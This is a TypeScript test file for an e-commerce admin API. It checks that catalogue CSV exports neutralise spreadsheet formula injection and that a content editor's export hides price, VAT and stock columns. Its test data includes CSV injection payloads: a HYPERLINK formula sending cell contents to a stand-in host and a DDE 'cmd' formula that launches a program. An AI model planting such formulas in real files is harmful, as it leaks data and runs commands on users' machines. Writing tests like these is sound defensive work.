/**
 * Formulas in the catalogue CSV and who sees which columns (issue 41 points 2 and 3;
 * docs/csv-format.md): products named `=HYPERLINK(…)`, `+SUM(1,2)`, `-2+3`, `@cmd` are exported
 * as text (one `'` and quotes), no cell of the file starts a formula, the file imports back
 * unchanged to the same names, the import's error report neutralises the uploaded column names,
 * and a content editor's export has no price, VAT or stock columns. On every database kind.
 */
import { parse } from 'csv-parse/sync';
import { asc, eq, inArray } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { brands, categories, markets, productPrices, products, stock } from '../src/db/schema.ts';
import { seedCatalogue } from '../src/db/seed/seed.ts';
import { addStaff, adminClient, useAdminApi } from './admin-client.ts';
import { testDatabaseKinds } from './test-db.ts';

const CREATE = 'mutation($input: ProductInput!) { createProduct(input: $input) { id } }';
const IMPORT = `mutation($csv: String!) { importCatalogueCsv(csv: $csv) {
  ok created updated stockChanges errors { row column message } reportCsv } }`;
const EXPORT = '{ catalogueCsvExport }';

/** The hostile names (OWASP's examples and a name that starts with the neutralising quote). */
const NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  "'=redan citerad",
];

/** The cells of a catalogue CSV as written (no quote removed). */
function cellsOf(csv: string): string[][] {
  return parse(csv, { delimiter: ';', bom: true }) as string[][];
}

describe.each(testDatabaseKinds())('catalogue CSV formulas and columns on %s', (kind) => {
  const state = useAdminApi(kind);
  let chef: ReturnType<typeof adminClient>;

  beforeAll(async () => {
    const db = state.handle.db;
    await seedCatalogue(db, { products: 3 });
    await addStaff(state.handle, 'chef@example.se', 'butikschef');
    await addStaff(state.handle, 'redaktor@example.se', 'innehallsredaktor');
    await addStaff(state.handle, 'kundtjanst@example.se', 'kundtjanst');
    chef = adminClient(state.api, '10.81.0.1');
    expect((await chef.login('chef@example.se')).status).toBe(200);
    const [brand] = await db.select().from(brands).orderBy(asc(brands.id)).limit(1);
    const [category] = await db
      .select()
      .from(categories)
      .where(eq(categories.isHidden, false))
      .orderBy(asc(categories.id))
      .limit(1);
    const marketRows = await db.select().from(markets).where(eq(markets.active, true));
    for (const [i, name] of NAMES.entries()) {
      const answer = await chef.send(CREATE, {
        input: {
          articleNumber: `FORMEL-${i}`,
          alias: `formel-${i}`,
          brandId: brand!.id,
          primaryCategoryId: category!.id,
          published: true,
          texts: [{ languageId: 'sv-SE', name, shortText: '-5' }],
          skus: [{ articleNumber: `FORMEL-${i}-M`, size: 'M' }],
          prices: marketRows.map((m) => ({ marketId: m.id, amount: 129_900, vatMode: 'incVat' })),
        },
      });
      expect(answer.body.errors).toBeUndefined();
    }
  }, 120_000);

  const exportAs = async (client: ReturnType<typeof adminClient>) => {
    const answer = await client.send(EXPORT);
    expect(answer.body.errors).toBeUndefined();
    return answer.body.data?.catalogueCsvExport as string;
  };
  const loggedIn = async (email: string) => {
    const client = adminClient(state.api, '10.81.0.2');
    expect((await client.login(email)).status).toBe(200);
    return client;
  };

  it('writes each hostile name as text: one leading quote, the cell quoted', async () => {
    const csv = await exportAs(chef);
    const [header, ...rows] = cellsOf(csv);
    const name = header!.indexOf('namn');
    const shortText = header!.indexOf('kort_text');
    for (const [i, hostile] of NAMES.entries()) {
      const row = rows.find((r) => r[0] === `FORMEL-${i}`)!;
      expect(row[name]).toBe(`'${hostile}`);
      expect(row[shortText]).toBe("'-5");
    }
    expect(csv).toContain(';"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka"")";');
    expect(csv).toContain(';"\'+SUM(1,2)";');
    const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(formulas).toEqual([]);
  });

  it('imports its own export back unchanged: the same names, nothing written', async () => {
    const first = await exportAs(chef);
    const result = (await chef.send(IMPORT, { csv: first })).body.data?.importCatalogueCsv;
    expect(result).toMatchObject({ ok: true, created: 0, updated: 0, stockChanges: 0, errors: [] });
    const saved = await state.handle.db
      .select({ articleNumber: products.articleNumber, name: products.name, text2: products.text2 })
      .from(products)
      .where(
        inArray(
          products.articleNumber,
          NAMES.map((_, i) => `FORMEL-${i}`),
        ),
      )
      .orderBy(asc(products.articleNumber));
    expect(saved).toEqual(
      NAMES.map((n, i) => ({ articleNumber: `FORMEL-${i}`, name: n, text2: '-5' })),
    );
    expect(await exportAs(chef)).toBe(first);
  });

  it('neutralises the uploaded column names in the error report', async () => {
    const first = await exportAs(chef);
    const csv = first.replace(
      'produkt_artikelnummer;',
      "=cmd|' /C calc'!A0;produkt_artikelnummer;",
    );
    const result = (await chef.send(IMPORT, { csv })).body.data?.importCatalogueCsv as {
      ok: boolean;
      reportCsv: string;
    };
    expect(result.ok).toBe(false);
    expect(cellsOf(result.reportCsv)).toContainEqual(['1', "'=cmd|' /c calc'!a0", 'Okänd kolumn']);
  });

  it('leaves out the price, VAT and stock columns for a content editor, not for customer service', async () => {
    const full = cellsOf(await exportAs(chef))[0]!;
    const priceOrStock = full.filter((c) => /^(pris_|moms_|lager_|inleverans$)/.test(c));
    expect(priceOrStock).toContain('pris_se');
    expect(priceOrStock).toContain('lager_webb');
    expect(cellsOf(await exportAs(await loggedIn('kundtjanst@example.se')))[0]).toEqual(full);
    const editorCsv = await exportAs(await loggedIn('redaktor@example.se'));
    const editorHeader = cellsOf(editorCsv)[0]!;
    expect(editorHeader).toEqual(full.filter((c) => !priceOrStock.includes(c)));
    expect(
      cellsOf(editorCsv)
        .flat()
        .filter((cell) => /^\d+,\d\d$/.test(cell)),
    ).toEqual([]);

    // The editor's file imports without touching a price or a stock level.
    const before = {
      prices: await state.handle.db
        .select()
        .from(productPrices)
        .orderBy(asc(productPrices.productId), asc(productPrices.marketId)),
      stock: await state.handle.db.select().from(stock).orderBy(asc(stock.skuId)),
    };
    const result = (await chef.send(IMPORT, { csv: editorCsv })).body.data?.importCatalogueCsv;
    expect(result).toMatchObject({ ok: true, updated: 0, stockChanges: 0 });
    expect(
      await state.handle.db
        .select()
        .from(productPrices)
        .orderBy(asc(productPrices.productId), asc(productPrices.marketId)),
    ).toEqual(before.prices);
    expect(await state.handle.db.select().from(stock).orderBy(asc(stock.skuId))).toEqual(
      before.stock,
    );
  });
});
